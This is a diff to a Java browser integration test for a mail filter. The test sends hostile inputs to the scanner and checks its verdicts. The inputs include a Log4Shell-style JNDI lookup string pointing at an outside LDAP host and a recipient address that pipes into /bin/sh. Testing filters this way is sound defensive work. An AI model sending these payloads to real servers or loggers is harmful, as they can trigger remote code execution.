@@ -66,9 +66,9 @@ class BrowserIT {
     scan("connect", "--ip", "203.0.113.7");
     scan("helo", "--helo", "${jndi:ldap://203.0.113.1/a}");
     scan("rcpt", "--to", "|/bin/sh@example.net");
-    browser.awaitText(VERDICTS, "at CONNECT");
+    browser.awaitText(VERDICTS, "at RCPT");
     assertThat(browser.text(VERDICTS))
-        .contains("at HELO", "at RCPT", "conduct.blocked-client", "shield.jndi-lookup");
+        .contains("at CONNECT", "at HELO", "conduct.blocked-client", "shield.jndi-lookup");
     assertThat(browser.text(By.id("postern-filters"))).contains("shield", "conduct", "attachment");
     assertThat(browser.text(By.id("postern-flow"))).contains("Mail can flow");
     // No Exchange is here, so nothing is said about its agent.
